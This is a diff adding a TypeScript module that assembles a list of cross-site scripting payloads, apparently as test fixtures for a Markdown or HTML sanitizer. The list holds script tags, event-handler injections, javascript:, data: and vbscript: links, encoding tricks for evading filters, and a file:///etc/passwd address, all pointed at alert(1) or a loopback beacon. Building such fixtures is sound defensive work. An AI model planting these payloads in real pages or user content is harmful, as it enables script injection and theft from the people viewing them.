@@ -1,0 +1,126 @@
+const RUN = 'alert(1)'
+export const ELSEWHERE = 'http://127.0.0.1:9/beacon'
+
+/** Written by hand: one trick each. */
+const WRITTEN = [
+  `<script>${RUN}</script>`,
+  `<script src="${ELSEWHERE}.js"></script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img src="${ELSEWHERE}.png">`,
+  `<image href="${ELSEWHERE}.png">`,
+  `<svg onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text x="0" y="15">x</text></a></svg>`,
+  `<math href="javascript:${RUN}">x</math>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+  `<object data="${ELSEWHERE}"></object>`,
+  `<embed src="${ELSEWHERE}">`,
+  `<link rel="stylesheet" href="${ELSEWHERE}.css">`,
+  `<style>@import url(${ELSEWHERE}.css); body { background: url(${ELSEWHERE}.png) }</style>`,
+  `<div style="background:url(${ELSEWHERE}.png)">x</div>`,
+  `<base href="${ELSEWHERE}/">`,
+  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
+  `<form action="${ELSEWHERE}"><input name=x autofocus onfocus=${RUN}></form>`,
+  `<video src="${ELSEWHERE}.mp4" autoplay onerror=${RUN}></video>`,
+  `<audio src="${ELSEWHERE}.mp3" autoplay></audio>`,
+  `<body onload=${RUN}>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `"><script>${RUN}</script>`,
+  `'-${RUN}-'`,
+  `</textarea><script>${RUN}</script>`,
+  `</title><script>${RUN}</script>`,
+  `[x](javascript:${RUN})`,
+  `[x](JaVaScRiPt:${RUN})`,
+  `[x](java&#115;cript:${RUN})`,
+  `[x](\u0001javascript:${RUN})`,
+  `[x](<javascript:${RUN}>)`,
+  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `[x](vbscript:msgbox(1))`,
+  `[x](blob:${ELSEWHERE})`,
+  `[x][y]\n\n[y]: javascript:${RUN}`,
+  `<javascript:${RUN}>`,
+  `![x](${ELSEWHERE}.png)`,
+  `![x](javascript:${RUN})`,
+  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
+  `![x](${ELSEWHERE}.png "onerror=${RUN}")`,
+  `[![x](${ELSEWHERE}.png)](javascript:${RUN})`,
+  `![x][y]\n\n[y]: ${ELSEWHERE}.png`,
+  `\`\`\`html onload=${RUN}\n<script>${RUN}</script>\n\`\`\``,
+  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
+  `| <img src=x onerror=${RUN}> | ![x](${ELSEWHERE}.png) |\n|---|---|\n| <script>${RUN}</script> | [x](javascript:${RUN}) |`,
+  `- <script>${RUN}</script>\n- [ ] <img src=x onerror=${RUN}>`,
+  `> <iframe src="javascript:${RUN}">`,
+  `# <svg onload=${RUN}>`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${RUN}&#62;`,
+  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}}`,
+  `\${${RUN}} {{${RUN}}} <%= ${RUN} %>`,
+  `\u202e<script>${RUN}</script>`,
+  `${'>'.repeat(3_000)}<script>${RUN}</script>`,
+]
+
+const HANDLERS = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onfocus',
+  'onmouseover',
+  'onanimationstart',
+  'onpointerenter',
+]
+const ELEMENTS = [
+  '<img src=x H autofocus>',
+  '<svg H><animate attributeName=x dur=1s>',
+  '<input autofocus H>',
+  '<video><source H></video>',
+  '<div tabindex=0 H>x</div>',
+  '<a href=x H>x</a>',
+  '<custom-element H></custom-element>',
+  '**<button H>x</button>**',
+  '- > <select H autofocus></select>',
+  '<IMG SRC=x H\t/>',
+  '<textarea autofocus H></textarea>',
+  '<object data=x H></object>',
+]
+/** Each element that may carry a handler with each handler. */
+const HANDLED = ELEMENTS.flatMap((element) =>
+  HANDLERS.map((handler) => element.replace('H', `${handler}="${RUN}"`)),
+)
+
+const ADDRESSES = [
+  `javascript:${RUN}`,
+  `JAVASCRIPT:${RUN}`,
+  `java\tscript:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `&#x6A;avascript&colon;${RUN}`,
+  `javascript&#58;${RUN}`,
+  `%6Aavascript:${RUN}`,
+  `\u00a0javascript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:image/svg+xml,<svg onload=${RUN}>`,
+  `vbscript:${RUN}`,
+  'file:///etc/passwd',
+  `blob:null/${RUN}`,
+  `view-source:javascript:${RUN}`,
+]
+const PLACES = [
+  '[x](A)',
+  '[x](<A>)',
+  '![x](A)',
+  '<A>',
+  '[x]: A\n\n[x]',
+  '<a href="A">x</a>',
+  '<iframe src="A">',
+]
+/** Each address that may run something at each place where an address may stand. */
+const ADDRESSED = PLACES.flatMap((place) => ADDRESSES.map((address) => place.replace('A', address)))
+
+/** What a hostile friend, plugin, user or model may write. */
+export const PAYLOADS: readonly string[] = [...WRITTEN, ...HANDLED, ...ADDRESSED]
